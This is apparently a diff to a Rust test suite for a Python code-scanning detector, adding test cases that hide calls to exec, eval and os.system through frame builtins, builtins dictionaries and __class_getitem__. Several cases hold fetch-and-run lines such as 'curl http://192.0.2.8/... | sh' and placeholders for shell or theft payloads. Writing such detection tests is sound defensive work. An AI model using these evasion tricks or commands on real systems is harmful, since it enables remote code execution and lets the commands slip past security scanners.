@@ -159,5 +159,22 @@ from os import *
 from base64 import *
 locals()["syst" + "em"](b64decode("«'curl http://192.0.2.8/w | sh'|b64»").decode())
 "#))
+        .case("frame-builtins", init(r#"
+import inspect
+locals().update({"_go": inspect.currentframe().f_builtins.get("compile"), "_do": inspect.currentframe().f_builtins["eval"]})
+_do(_go("import os; os.system('echo inert')", "f", "exec"))
+"#))
+        .case("listed-members", init(r#"
+import builtins
+_tools = {name.upper(): value for name, value in vars(builtins).items() if callable(value)}
+_tools["EXEC"](bytes.fromhex("«shell|hex»"))
+"#))
+        .case("class-getitem", init(r#"
+class _Pool:
+    all = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
+    def __class_getitem__(cls, key):
+        return cls.all[key.replace("_", "").lower()]
+_Pool["E_XEC"](«steal|str»)
+"#))
         .case("getattribute", init("import os\nobject.__getattribute__(os, 'metsys'[::-1])('curl http://192.0.2.8/y | sh')\n"));
 }
